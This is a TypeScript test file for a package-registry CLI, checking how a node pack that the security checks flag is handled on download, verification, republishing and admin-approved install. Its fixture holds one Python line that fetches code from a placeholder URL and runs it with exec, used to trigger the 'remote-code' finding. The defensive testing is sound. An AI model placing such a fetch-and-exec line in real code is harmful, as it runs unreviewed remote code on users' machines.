import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { regen } from '../../support/cli.js';
import { packForTest } from '../../support/packs.js';
import { folderForTest, publisherForTest, serviceForTest } from '../../support/service.js';

const CODE =
  'import requests\ndef load(): exec(requests.get("https://example.com/x.py").text)\nNODE_CLASS_MAPPINGS = {}\n';

describe('a flagged version', () => {
  async function publishFlagged() {
    const service = await serviceForTest();
    const { personalAccessToken } = await publisherForTest(service);
    const env = {
      REGEN_BASE_URL: service.url,
      REGEN_TOKEN: service.ownerToken,
      REGEN_PUBLISH_TOKEN: personalAccessToken,
    };
    const cwd = folderForTest();
    const run = (...argv: string[]) => regen(argv, { env, cwd });
    const publish = (code: string) =>
      run(
        'version',
        'publish',
        packForTest({ files: { '__init__.py': code } }),
        '--allow-empty',
        '--allow-findings',
      );
    expect((await publish(CODE)).exit).toBe(6);
    return { run, publish, cwd };
  }

  test('is downloaded only with --allow, which the refusal names', async () => {
    const { run, cwd } = await publishFlagged();
    const refused = await run('version', 'download', 'pack', '1.0.0');
    expect([refused.exit, refused.stderr]).toEqual([6, expect.stringContaining('pass --allow flagged.')]);
    const done = await run('version', 'download', 'pack', '1.0.0', '--allow', 'flagged');
    expect(done.exit, done.stderr).toBe(0);
    expect(existsSync(join(cwd, 'pack-1.0.0.zip'))).toBe(true);
    const wrong = await run('version', 'download', 'pack', '1.0.0', '--allow', 'all');
    expect([wrong.exit, wrong.stderr]).toEqual([2, expect.stringContaining("not 'all'")]);
  });

  test('does not pass version verify, which says that it is not signed', async () => {
    const { run } = await publishFlagged();
    const { exit, stdout, stderr } = await run('version', 'verify', 'pack', '1.0.0');
    expect(exit).toBe(6);
    expect(stdout).toContain('SHA-256');
    expect(stderr).toContain('signs only Active versions');
    expect(stderr).toContain('pack 1.0.0 is Flagged: __init__.py:2');
  });

  test('is not published again with other files, whose findings it would not list', async () => {
    const { publish } = await publishFlagged();
    expect((await publish(CODE)).stderr).toContain('waits for a review by an admin: __init__.py:2');
    const { exit, stderr } = await publish('NODE_CLASS_MAPPINGS = {}\n');
    expect([exit, stderr]).toEqual([
      5,
      expect.stringContaining('pack 1.0.0 was uploaded with other files, and is Flagged.'),
    ]);
    expect(stderr).toContain('regen version bump auto');
    expect(stderr).not.toContain('__init__.py:2');
  });

  test('that was approved is installed with the reason and what the checks found', async () => {
    const { run } = await publishFlagged();
    await run('admin', 'review', 'pack@1.0.0', '--approve', '--reason', 'It is our own server');
    const { exit, stderr } = await run('node', 'install', 'pack', '--into', '.');
    expect(exit, stderr).toBe(0);
    expect(stderr).toContain(
      'warning: pack 1.0.0 was flagged by the checks and approved by an admin: It is our own server; __init__.py:2 Runs code that is read from the network. (remote-code)\n',
    );
  });
});
